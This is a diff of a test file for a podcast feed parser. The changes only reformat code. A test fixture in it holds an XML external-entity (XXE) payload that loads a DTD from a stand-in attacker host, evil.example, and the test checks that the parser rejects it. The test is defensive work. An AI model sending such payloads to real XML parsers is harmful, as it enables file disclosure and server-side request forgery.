@@ -307,11 +307,15 @@ describe('a feed that lies', () => {
       ok: false,
       error: {
         code: 'malformed-feed',
-        message: 'That podcast feed declares external entities (files or addresses to include), which PodBite does not read.',
+        message:
+          'That podcast feed declares external entities (files or addresses to include), which PodBite does not read.',
       },
     });
     const parameterEntity = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % remote PUBLIC "x" "http://evil.example/x.dtd">]><rss><channel/></rss>`;
-    expect(parsePodcastFeed(parameterEntity, FEED_URL)).toMatchObject({ ok: false, error: { message: expect.stringContaining('external entities') } });
+    expect(parsePodcastFeed(parameterEntity, FEED_URL)).toMatchObject({
+      ok: false,
+      error: { message: expect.stringContaining('external entities') },
+    });
   });
 
   it('reads the newest FEED_MAX_ITEMS episodes of a longer feed, whichever order it lists them in', () => {
